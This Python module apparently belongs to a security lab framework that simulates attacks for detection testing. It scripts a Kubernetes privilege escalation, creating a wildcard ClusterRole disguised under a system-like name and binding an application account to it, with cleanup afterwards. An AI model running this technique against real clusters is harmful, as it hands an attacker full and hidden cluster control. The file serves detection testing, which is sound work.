"""Attack: cluster role that allows everything.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="wildcard-role",
    title="Cluster role that allows everything",
    technique=base.Technique(id="T1098.006", name="Additional Container Cluster Roles", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Creates a cluster role with stars for groups, resources and verbs under a name like the system's, and "
        "binds a workload's account to it."
    ),
    seen_by="A role body with wildcards, then a binding to it.",
    cleans_up="Role and binding are deleted.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    catalogues=(
        "stratus:k8s.persistence.create-admin-clusterrole",
        "GuardDuty: AnomalousBehavior.RoleCreated",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.OPERATOR, able=("POST", paths.group(paths.RBAC, "clusterroles")))
    thief = ctx.act_as(victim)
    partner = ctx.victim(base.Part.APP)
    name = ctx.name("system-node-problem-reporter")
    ctx.remove_later(
        paths.group(paths.RBAC, "clusterroles", "", name), paths.group(paths.RBAC, "clusterrolebindings", "", name)
    )
    role = {
        "apiVersion": paths.RBAC,
        "kind": "ClusterRole",
        "metadata": {"name": name},
        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
    }
    yield thief.create(paths.group(paths.RBAC, "clusterroles"), role)
    binding = {
        "apiVersion": paths.RBAC,
        "kind": "ClusterRoleBinding",
        "metadata": {"name": name},
        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": partner.username}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name},
    }
    yield thief.create(paths.group(paths.RBAC, "clusterrolebindings"), binding)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
